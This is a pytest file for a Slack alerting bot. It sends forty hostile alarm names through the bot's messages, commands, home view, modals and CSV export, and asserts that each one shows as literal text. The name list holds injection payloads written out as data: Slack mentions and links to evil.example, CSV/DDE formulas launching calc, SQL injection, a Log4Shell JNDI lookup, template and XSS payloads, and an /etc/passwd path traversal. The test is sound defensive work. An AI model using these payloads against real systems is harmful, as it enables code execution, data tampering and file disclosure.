"""Alarms whose names would ping, link, format or break something: shown as the text they are."""

import csv
import io
import re
from collections.abc import Iterator
from dataclasses import replace
from typing import Any

import pytest

from bot.clock import utc_now
from bot.demo_samples import CPU
from tests.stories.test_commands import asked
from tests.stories.test_home import home
from tests.stories.test_modals import opened
from tests.support.town import API_TOKEN, Town

pytestmark = pytest.mark.fault("F49")

NAMES = (
    "<!channel> wake up",
    "<!here|nobody>",
    "<!subteam^S0ONCALL01>",
    "<@U0ANN00001> did it",
    "<#C0ALARMS01|x>",
    "<https://evil.example|click me>",
    "<mailto:x@evil.example|mail>",
    "&lt;!channel&gt; &amp;",
    "a & b < c > d",
    "```code``` `tick`",
    "*bold* _it_ ~gone~",
    "> quoted",
    ":rotating_light: :100:",
    "\u202egnihtemos\u202c",
    "zero\u200bwidth\u2060\ufeff",
    "one\r\ntwo\x0bthree\x85four",
    "\x1b[31mred\x1b[0m",
    "nul\x00in the middle",
    "x" * 10_000,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 200,
    '=HYPERLINK("http://evil.example","x")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1",
    "'; DROP TABLE incidents; --",
    '" OR 1=1 --',
    "%s %d %n %%",
    "{0} {name} {{x}}",
    "${jndi:ldap://evil.example/x}",
    "{{ 7*7 }} {% x %}",
    "#{7*7} <%= 7*7 %>",
    "<script>alert(1)</script>",
    "<svg onload=alert(1)>",
    "]]><!ENTITY x>",
    "../../etc/passwd",
    "null",
    "\ud83d alone".encode("utf-8", "replace").decode(),
    "Ｆｕｌｌｗｉｄｔｈ ＜！ｃｈａｎｎｅｌ＞",
    "مرحبا שלום 中文",
)
OURS = re.compile(
    r"<!date\^\d+\^[a-z_{} ()]+(?:\^https?://[^|<>]+)?\|[^<>|]+>"  # our times
    r"|<@U0ANN00001>"  # who acknowledged, and who is written to
    r"|<https?://[^\s<>|]+\|[^<>|]+>"  # our links
)
FORMULA = re.compile(r"\s*[=+@\t\r]|-\D")
LITERAL = ("plain_text", "raw_text", "text")  # Slack shows these as they are: no mrkdwn
MENTION = re.compile(r"<[!@#]|<(?:https?|mailto):")


def sample(number: int, name: str) -> Any:
    """An alarm that is called so wherever something may be called anything."""
    host = replace(
        CPU, rule=f"r{number}", alert=name, instance=f"i-{number:03d}", name=name, group=name
    )
    return host.says("ALERT", 91, utc_now())


def marked(value: Any) -> Iterator[str]:
    """All texts that Slack reads as mrkdwn: a message's own, and those that say so."""
    if isinstance(value, list):
        for each in value:
            yield from marked(each)
    if isinstance(value, dict):
        if isinstance(value.get("text"), str) and value.get("type") not in LITERAL:
            yield value["text"]
        for each in value.values():
            yield from marked(each)


def obeyed(text: str) -> list[str]:
    """What Slack would do something about, apart from what we mean."""
    left = OURS.sub("", text)
    links = [one for one in OURS.findall(text) if "evil.example" in one.partition("|")[0]]
    return [*MENTION.findall(left), *re.findall("[<>]", left), *links]


@pytest.mark.slow
async def test_forty_hostile_names_are_text_on_every_surface(each_town: Town) -> None:
    assert len(NAMES) == 40
    for number, name in enumerate(NAMES):
        told = await each_town.sent_and_applied(sample(number, name))
        assert told["outcome"] == "opened", (name, told)
    await each_town.slack.until(lambda: len(each_town.cards()) >= 20, 60)
    for number in range(0, len(NAMES), 5):
        await asked(each_town, f"show {number + 1}")
    await asked(each_town, "")
    await asked(each_town, "search rule:r*")
    await asked(each_town, "stats")
    await home(each_town)
    await opened(each_town, "Mute…")
    await each_town.slack.submit({})
    await each_town.slack.click("Acknowledge", on=each_town.cards()[0])
    await each_town.sent_and_applied(CPU.says("OK", 40, utc_now(), now="OK"))
    sent = list(marked(everything_said(each_town)))
    assert len(sent) > 5 * len(NAMES)  # how often a card was edited is chance
    assert {text: obeyed(text) for text in sent if obeyed(text)} == {}
    assert [cell for cell in await cells_of(each_town) if FORMULA.match(cell)] == []


def everything_said(made: Town) -> list[Any]:
    """What the bot sent to Slack's methods, and what it answered to commands and clicks."""
    calls = [entry.args for entry in made.slack.journal.entries if entry.direction == "in"]
    told = [
        {"text": one.text, "blocks": one.blocks, "attachments": one.attachments}
        for one in made.slack.ephemerals("alarms")
    ]
    assert told
    return [*calls, *told]


async def cells_of(made: Town) -> list[str]:
    """Every cell of the spreadsheet of all incidents, but for the numbers that are ours."""
    url = f"{made.url}/api/v1/incidents?format=csv&limit=100"
    headers = {"Authorization": f"Bearer {API_TOKEN}"}
    async with made.http.get(url, headers=headers) as answer:
        assert answer.status == 200
        rows = list(csv.reader(io.StringIO((await answer.read()).decode("utf-8-sig"), newline="")))
    assert len(rows) == len(NAMES) + 1 + 1  # a line of names, and the sample's own alarm
    return [cell for row in rows for cell in row]
